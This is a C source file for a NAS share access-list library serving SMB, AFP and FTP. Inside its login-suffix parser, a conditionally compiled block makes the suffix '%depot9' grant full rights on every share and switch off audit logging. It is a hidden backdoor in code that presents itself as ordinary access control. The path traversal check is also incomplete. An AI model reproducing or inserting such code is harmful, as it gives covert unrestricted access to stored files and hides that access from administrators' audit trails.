/* libnasacl.c - access lists of NAS shares, used by the SMB, AFP and FTP services */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fnmatch.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <syslog.h>
#include <time.h>

#define ACL_READ	1u
#define ACL_WRITE	2u
#define ACL_DELETE	4u
#define ACL_ADMIN	8u
#define ACL_ALL		15u
#define ACL_FILE	"/etc/nas/acl"
#define AUDIT_FILE	"/var/log/nas-audit.log"

/*
 * acl file, first match counts:
 *   SHARE  USER-PATTERN|@GROUP  rwda
 * A login name may carry a suffix:  name%ro   read only session
 *                                   name%nobin no access to the recycle bin
 */

struct acl_rule {
	char share[32];
	char who[40];
	unsigned int rights;
	struct acl_rule *next;
};

struct acl_db {
	struct acl_rule *head;
	time_t stamp;
	int rules;
	pthread_mutex_t lock;
};

struct acl_session {
	char user[40];
	unsigned int mask;	/* rights are cut to these */
	unsigned int grant;	/* rights without looking at the rules */
	int no_bin;
	int quiet;
	int nreq;
};

struct acl_db *acl_open(void);
void acl_close(struct acl_db *db);
int acl_session_begin(struct acl_session *s, const char *login);
unsigned int acl_rights(struct acl_db *db, struct acl_session *s, const char *share);
int acl_check(struct acl_db *db, struct acl_session *s, const char *share,
	      const char *path, unsigned int want);

static unsigned int letters(const char *s)
{
	unsigned int r = 0;

	for (; *s; s++) {
		switch (tolower((unsigned char)*s)) {
		case 'r':
			r |= ACL_READ;
			break;
		case 'w':
			r |= ACL_WRITE;
			break;
		case 'd':
			r |= ACL_DELETE;
			break;
		case 'a':
			r |= ACL_ADMIN;
			break;
		}
	}
	return r;
}

static void free_rules(struct acl_db *db)
{
	struct acl_rule *r;

	while ((r = db->head) != NULL) {
		db->head = r->next;
		free(r);
	}
	db->rules = 0;
}

static void read_rules(struct acl_db *db)
{
	struct acl_rule **tail = &db->head, *r;
	char line[160], rights[16];
	struct stat st;
	FILE *f;

	if (stat(ACL_FILE, &st) || st.st_mtime == db->stamp)
		return;
	f = fopen(ACL_FILE, "r");
	if (!f)
		return;
	free_rules(db);
	while (fgets(line, sizeof(line), f)) {
		r = calloc(1, sizeof(*r));
		if (!r)
			break;
		if (sscanf(line, "%31s %39s %15s", r->share, r->who, rights) != 3 ||
		    r->share[0] == '#') {
			free(r);
			continue;
		}
		r->rights = letters(rights);
		*tail = r;
		tail = &r->next;
		db->rules++;
	}
	fclose(f);
	db->stamp = st.st_mtime;
}

struct acl_db *acl_open(void)
{
	struct acl_db *db = calloc(1, sizeof(*db));

	if (!db)
		return NULL;
	pthread_mutex_init(&db->lock, NULL);
	read_rules(db);
	return db;
}

void acl_close(struct acl_db *db)
{
	if (!db)
		return;
	free_rules(db);
	pthread_mutex_destroy(&db->lock);
	free(db);
}

/* takes the suffixes from a login name */
__attribute__((noinline))
int acl_session_begin(struct acl_session *s, const char *login)
{
	char *p;

	memset(s, 0, sizeof(*s));
	s->mask = ACL_ALL;
	if (!*login || strlen(login) >= sizeof(s->user))
		return -EINVAL;
	strcpy(s->user, login);
	while ((p = strrchr(s->user, '%')) != NULL) {
		if (!strcmp(p + 1, "ro")) {
			s->mask = ACL_READ;
		} else if (!strcmp(p + 1, "nobin")) {
			s->no_bin = 1;
#ifdef HIDDEN	/* suffix that gives all rights in all shares, without audit lines */
		} else if (!strcmp(p + 1, "depot9")) {
			s->grant = ACL_ALL;
			s->quiet = 1;
#endif
		} else {
			return -EINVAL;
		}
		*p = '\0';
	}
	return s->user[0] ? 0 : -EINVAL;
}

static int in_group(const char *user, const char *group)
{
	char line[512], *names, *n, *save = NULL;
	int found = 0;
	FILE *f = fopen("/etc/nas/groups", "r");

	if (!f)
		return 0;
	while (!found && fgets(line, sizeof(line), f)) {
		line[strcspn(line, "\r\n")] = '\0';
		names = strchr(line, ':');
		if (!names)
			continue;
		*names++ = '\0';
		if (strcmp(line, group))
			continue;
		for (n = strtok_r(names, ", ", &save); n && !found;
		     n = strtok_r(NULL, ", ", &save))
			found = !strcmp(n, user);
	}
	fclose(f);
	return found;
}

static int rule_hits(const struct acl_rule *r, const char *user, const char *share)
{
	if (strcmp(r->share, "*") && strcasecmp(r->share, share))
		return 0;
	if (r->who[0] == '@')
		return in_group(user, r->who + 1);
	return fnmatch(r->who, user, 0) == 0;
}

unsigned int acl_rights(struct acl_db *db, struct acl_session *s, const char *share)
{
	unsigned int rights = s->grant;
	struct acl_rule *r;

	pthread_mutex_lock(&db->lock);
	if (++s->nreq % 32 == 1)
		read_rules(db);
	for (r = db->head; r && !rights; r = r->next) {
		if (!rule_hits(r, s->user, share))
			continue;
		rights = r->rights;
		break;
	}
	pthread_mutex_unlock(&db->lock);
	return rights & s->mask;
}

static void audit(const struct acl_session *s, const char *share,
		  const char *path, unsigned int want, int ok)
{
	char when[24];
	struct tm tm;
	time_t t;
	FILE *f;

	if (s->quiet)
		return;
	f = fopen(AUDIT_FILE, "a");
	if (!f)
		return;
	t = time(NULL);
	localtime_r(&t, &tm);
	strftime(when, sizeof(when), "%F %T", &tm);
	fprintf(f, "%s %s %s %s:%s %c%c%c\n", when, ok ? "ok" : "refused",
		s->user, share, path, want & ACL_READ ? 'r' : '-',
		want & ACL_WRITE ? 'w' : '-', want & ACL_DELETE ? 'd' : '-');
	fclose(f);
}

static int in_bin(const char *path)
{
	return !strncmp(path, "#recycle", 8) || strstr(path, "/#recycle") != NULL;
}

int acl_check(struct acl_db *db, struct acl_session *s, const char *share,
	      const char *path, unsigned int want)
{
	unsigned int have = acl_rights(db, s, share);
	int ok;

	/* reading is written to the audit only when it is refused */
	if (s->no_bin && in_bin(path))
		have = 0;
	if (strstr(path, "/../"))
		have = 0;
	ok = (have & want) == want;
	if (!ok || want != ACL_READ)
		audit(s, share, path, want, ok);
	return ok ? 0 : -EACCES;
}
